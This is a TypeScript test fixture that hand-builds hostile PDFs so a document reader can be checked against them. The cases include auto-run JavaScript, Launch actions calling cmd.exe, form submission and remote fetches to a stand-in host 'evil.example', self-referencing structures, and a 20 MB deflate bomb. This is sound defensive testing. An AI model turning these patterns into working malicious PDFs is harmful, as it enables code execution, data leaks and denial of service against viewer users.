import { deflateSync } from 'node:zlib';
import type { HostileCase } from './hostile-case.ts';

const latin1 = (text: string): Uint8Array => Uint8Array.from(Buffer.from(text, 'latin1'));

/** What a case adds to a plain page that says "Ward: Sampleford". */
interface Changes {
  /** Further lines of the catalogue. */
  readonly catalogue?: string;
  /** Further lines of the page. */
  readonly page?: string;
  /** In place of the page tree's. */
  readonly tree?: string;
  /** Further drawing. */
  readonly drawing?: string;
  /** Further things that the page draws with. */
  readonly resources?: string;
  /** Further objects, from number 6. */
  readonly objects?: readonly string[];
  readonly trailer?: string;
}

/** A PDF by hand, because no library writes what is meant to do harm. */
function rawPdf(changes: Changes): Uint8Array {
  const { catalogue = '', page = '', drawing = '', resources = '', objects = [], trailer = '' } = changes;
  const content = `BT /F1 12 Tf 60 700 Td (Ward: Sampleford) Tj 0 -20 Td (Riddle: QX7) Tj ET ${drawing}`;
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    changes.tree ?? '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
    `<< /Length ${content.length} >> stream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...objects,
  ];
  let text = '%PDF-1.7\n';
  const places = all.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const start = text.length;
  return latin1(
    `${text}xref\n0 ${all.length + 1}\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
  );
}

function stream(head: string, text: string): string {
  return `<< ${head} /Length ${text.length} >> stream\n${text}\nendstream`;
}

const ADDRESS = 'https://evil.example/harmful-words';
const BOMB_BYTES = 20_000_000;
const BOMB = Buffer.from(deflateSync(Buffer.alloc(BOMB_BYTES, 32))).toString('latin1');

/** What a viewer would do when it opens the file: run, fetch, send, open. */
const ACTIONS: Readonly<Record<string, string>> = {
  'a script': '<< /S /JavaScript /JS (app.alert\\("harmful-words"\\)) >>',
  'a program': '<< /S /Launch /F (harmful-words.exe) >>',
  'a program with its arguments': '<< /S /Launch /Win << /F (cmd.exe) /P (/c harmful-words) >> >>',
  'an address': `<< /S /URI /URI (${ADDRESS}) >>`,
  'a form that is sent': `<< /S /SubmitForm /F (${ADDRESS}) /Flags 4 >>`,
  'another file': '<< /S /GoToR /F (//evil.example/harmful-words.pdf) /D [0 /Fit] >>',
  'a file within': '<< /S /GoToE /T << /R /C /N (harmful-words) >> >>',
  'data that are taken in': '<< /S /ImportData /F (harmful-words.fdf) >>',
  'a chain of actions': `<< /S /URI /URI (${ADDRESS}) /Next << /S /JavaScript /JS (harmful-words) >> >>`,
  'a film': `<< /S /Rendition /JS (harmful-words) /OP 0 >>`,
};

const STRUCTURE: Readonly<Record<string, Changes>> = {
  'scripts by name': {
    catalogue: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (harmful-words) >>] >> >>',
  },
  'a form of XFA': {
    catalogue: '/AcroForm << /XFA 6 0 R /Fields [] >>',
    objects: [stream('', '<xdp:xdp>harmful-words</xdp:xdp>')],
  },
  'a box with a script': {
    page: '/Annots [6 0 R]',
    catalogue: '/AcroForm << /Fields [6 0 R] >>',
    objects: [
      '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A << /S /JavaScript /JS (harmful-words) >> >>',
    ],
  },
  'a link': {
    page: '/Annots [6 0 R]',
    objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${ADDRESS}) >> >>`],
  },
  'rich media': {
    page: '/Annots [6 0 R]',
    objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent (harmful-words) >>'],
  },
  'a drawing of itself': {
    resources: '/XObject << /X 6 0 R >>',
    drawing: '/X Do',
    objects: [
      stream(
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
        '/X Do',
      ),
    ],
  },
  'two drawings of each other': {
    resources: '/XObject << /X 6 0 R >>',
    drawing: '/X Do',
    objects: [
      stream(
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Y 7 0 R >> >>',
        '/Y Do',
      ),
      stream(
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
        '/X Do',
      ),
    ],
  },
  'a picture from an address': {
    resources: '/XObject << /X 6 0 R >>',
    drawing: '/X Do',
    objects: [
      stream(
        `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${ADDRESS}) >>`,
        '',
      ),
    ],
  },
  'a picture that states a size beyond sense': {
    resources: '/XObject << /X 6 0 R >>',
    drawing: '/X Do',
    objects: [
      stream(
        '/Type /XObject /Subtype /Image /Width 999999 /Height 999999 /BitsPerComponent 8 /ColorSpace /DeviceRGB',
        'x',
      ),
    ],
  },
  'saved states without end': { drawing: 'q '.repeat(20_000) },
  'brackets without end': { drawing: '['.repeat(20_000) },
  'more pages stated than there are': { tree: '<< /Type /Pages /Kids [3 0 R] /Count 999999999 >>' },
  'a page tree in itself': { tree: '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>' },
  'an outline in itself': {
    catalogue: '/Outlines 6 0 R',
    objects: ['<< /First 7 0 R /Last 7 0 R >>', '<< /Title (a) /Parent 6 0 R /Next 7 0 R /First 7 0 R >>'],
  },
  'an older table that is itself': { trailer: '/Prev 9' },
};

/** Pages of a size that nobody prints: they are refused. */
const TOO_LARGE: Readonly<Record<string, Changes>> = {
  'a page as large as a country': { page: '/MediaBox [0 0 99999999 99999999]' },
  'a unit beyond sense': { page: '/UserUnit 999999' },
};

const BOMBS: Readonly<Record<string, Changes>> = {
  'a drawing that unpacks to twenty megabytes': {
    resources: '/XObject << /X 6 0 R >>',
    drawing: '/X Do',
    objects: [stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Filter /FlateDecode', BOMB)],
  },
};

function pdf(what: string, changes: Changes, more: Partial<HostileCase>): HostileCase {
  return { what: `a PDF with ${what}`, name: 'reply.pdf', make: () => rawPdf(changes), ...more };
}

const READ: Partial<HostileCase> = { holds: ['Sampleford', 'QX7'], lacks: ['harmful-words'] };

/** PDFs that try to run, to fetch, or never to end: no script engine is there, and what they say is read or refused. */
export const PDF_CASES: readonly HostileCase[] = [
  ...Object.entries(ACTIONS).flatMap(([what, action]) => [
    pdf(`${what} on opening`, { catalogue: `/OpenAction ${action}` }, READ),
    pdf(`${what} on showing the page`, { page: `/AA << /O ${action} >>` }, READ),
    pdf(
      `${what} behind a box`,
      {
        page: '/Annots [6 0 R]',
        objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`],
      },
      READ,
    ),
  ]),
  ...Object.entries({ ...STRUCTURE, ...BOMBS }).map(([what, changes]) => pdf(what, changes, READ)),
  ...Object.entries(TOO_LARGE).map(([what, changes]) =>
    pdf(what, changes, { codes: ['page-unreadable', 'damaged'] }),
  ),
];
